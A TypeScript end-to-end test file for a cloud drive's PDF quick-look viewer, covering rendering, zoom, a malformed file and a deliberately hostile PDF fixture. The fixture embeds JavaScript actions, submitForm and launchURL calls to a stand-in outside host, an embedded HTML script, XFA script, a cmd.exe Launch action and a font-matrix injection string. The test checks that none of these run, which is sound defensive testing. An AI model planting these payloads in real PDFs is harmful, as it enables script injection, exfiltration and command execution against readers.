import type { Page } from 'playwright-core'
import { expect } from 'vitest'
import { test } from './browser.ts'
import { openDrive, row, transfers } from './drive-screens.ts'

const sheet = (page: Page, name: string) => page.getByRole('dialog').getByRole('group', { name, exact: true })

/** How much of a drawn page is not white, from 0 to 1. */
const inkOn = (page: Page, name: string) =>
  sheet(page, name)
    .locator('canvas')
    .evaluate((canvas: HTMLCanvasElement) => {
      const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] }
      let dark = 0
      for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 128) dark += 1
      return (dark * 4) / data.length
    })

async function upload(page: Page, name: string, text: string): Promise<void> {
  await page
    .getByLabel('Upload files')
    .setInputFiles({ name, mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') })
  await transfers(page).getByRole('status').getByText('1 file uploaded').waitFor()
}

async function look(page: Page, name: string): Promise<void> {
  await row(page, name).click()
  await page.keyboard.press('Space')
  await page.getByRole('dialog').getByRole('document', { name }).waitFor()
}

test('a PDF is drawn in the quick look, with its text for whoever selects or listens, and can be made larger', async ({
  person,
}) => {
  const { page } = await openDrive(person)
  await look(page, 'Lease contract.pdf')
  await sheet(page, 'Page 1 of 1').getByText('Lease contract').waitFor()
  expect(await inkOn(page, 'Page 1 of 1')).toBeGreaterThan(0.001)
  const width = () => sheet(page, 'Page 1 of 1').evaluate((element) => element.clientWidth)
  const before = await width()
  await page.getByRole('button', { name: 'Zoom in' }).click()
  await expect.poll(width).toBe(Math.floor(before * 1.25))
  await page.getByRole('button', { name: 'Fit width' }).click()
  await expect.poll(width).toBe(before)
})

/** Objects in a file; the cross-reference table is left out, which viewers repair. */
const pdfOf = (objects: readonly string[]) =>
  `%PDF-1.7\n${objects.map((object, index) => `${String(index + 1)} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`

const stream = (dictionary: string, content: string) =>
  `<< ${dictionary} /Length ${String(content.length)} >>\nstream\n${content}\nendstream`

const away = 'http://elsewhere.localhost/take'
const script = `app.alert('x'); app.launchURL('${away}'); this.submitForm('${away}'); globalThis.injected = true`

const hostile = pdfOf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>
    /AA << /WC << /S /JavaScript /JS (globalThis.injected = true) >> >>
    /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(evil.html) 7 0 R] >> >>
    /AcroForm << /Fields [9 0 R] /XFA 10 0 R /NeedAppearances true >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Annots [5 0 R 9 0 R 11 0 R 12 0 R]
    /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.injected = true//)] >> >>
      /XObject << /I1 13 0 R >> >>
    /AA << /O << /S /JavaScript /JS (globalThis.injected = true) >> >> >>`,
  stream('', 'BT /F1 20 Tf 40 200 Td (Harmless to look at) Tj ET /I1 Do'),
  `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${away}) >> >>`,
  `<< /S /JavaScript /JS (globalThis.injected = true) >>`,
  '<< /Type /Filespec /F (evil.html) /EF << /F 8 0 R >> >>',
  stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', '<script>globalThis.injected = true</script>'),
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 100 20] /V (typed)
    /AA << /C << /S /JavaScript /JS (globalThis.injected = true) >> >> >>`,
  stream(
    '',
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="s"><event activity="initialize"><script contentType="application/x-javascript">globalThis.injected = true</script></event><draw><value><image href="${away}"/></value></draw></subform></template></xdp:xdp>`,
  ),
  `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>`,
  `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (${away}) >> >> >>`,
  `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${away}) >> /Length 0 >>\nstream\n\nendstream`,
])

test('script, links, forms, files and addresses in a PDF do nothing: it is looked at, and nothing leaves', async ({
  person,
}) => {
  const { page, site, mock } = await openDrive(person)
  await upload(page, 'Hostile.pdf', hostile)
  await look(page, 'Hostile.pdf')
  await sheet(page, 'Page 1 of 1').getByText('Harmless to look at').waitFor()
  await sheet(page, 'Page 1 of 1').click()
  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false)
  expect(await page.getByRole('dialog').locator('canvas ~ * a, input, iframe, embed, object, script').count()).toBe(0)
  expect(person.context.pages()).toHaveLength(1)
  const origins = new Set(person.network.exchanges.map(({ url }) => new URL(url).origin))
  expect([...origins].filter((origin) => origin !== site.origin && origin !== mock.origin)).toEqual([])
})

test('a file that is no PDF, though it says so, is answered in a sentence', async ({ person }) => {
  const { page } = await openDrive(person)
  await upload(page, 'Broken.pdf', 'certainly no PDF')
  await row(page, 'Broken.pdf').click()
  await page.keyboard.press('Space')
  await page.getByRole('alert').getByText('This PDF cannot be read').waitFor()
})
